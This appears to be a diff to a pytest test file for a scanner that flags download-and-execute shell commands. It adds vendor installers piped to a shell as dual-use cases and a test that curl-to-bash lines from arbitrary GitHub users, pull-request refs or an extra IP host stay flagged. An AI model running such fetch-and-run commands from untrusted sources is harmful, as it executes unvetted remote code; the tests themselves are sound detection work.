@@ -54,6 +54,8 @@ def test_a_cradle_alone_is_suspicious() -> None:
         "curl -fsSL https://get.docker.com | sh",
         "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
         "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+        "wget -qO- https://raw.githubusercontent.com/Azure/agent-tools/main/installer/setup.sh | sudo bash",
+        "curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
     ],
 )
 def test_vendor_installers_piped_to_a_shell_are_dual_use(text: str) -> None:
@@ -82,3 +84,18 @@ def test_the_official_chocolatey_install_is_dual_use() -> None:
 )
 def test_installers_score_below_the_suspicious_band(text: str, language: ArtifactType) -> None:
     assert score(text, language) < 300
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # anyone's account on the same code host is not the vendor
+        "curl -fsSL https://raw.githubusercontent.com/some-user/tools/main/setup.sh | bash",
+        # a pull request's files are served under the vendor's name but written by anyone
+        "curl -fsSL https://raw.githubusercontent.com/Azure/agent-tools/refs/pull/12/head/setup.sh | bash",
+        # one vendor URL does not vouch for another host on the same line
+        "curl -fsSL https://raw.githubusercontent.com/Azure/x/main/a.sh https://203.0.113.5/b.sh | bash",
+    ],
+)
+def test_a_code_host_pipe_outside_a_vendor_organisation_stays_strong(text: str) -> None:
+    assert "heur.download_execute.shell_pipe" in ids(text)
